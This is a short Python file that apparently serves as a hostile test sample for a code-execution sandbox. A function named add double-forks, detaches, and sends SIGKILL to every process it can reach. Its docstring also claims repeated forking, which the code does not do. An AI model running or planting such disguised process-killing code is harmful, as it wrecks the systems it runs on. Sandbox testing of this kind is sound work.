"""Kills every process from a grandchild, and forks again as often as it can."""

KIND = "call"
import os
import signal


def add(a, b):
    if os.fork() == 0:
        if os.fork() == 0:
            os.setsid()
            os.kill(-1, signal.SIGKILL)
        os._exit(0)
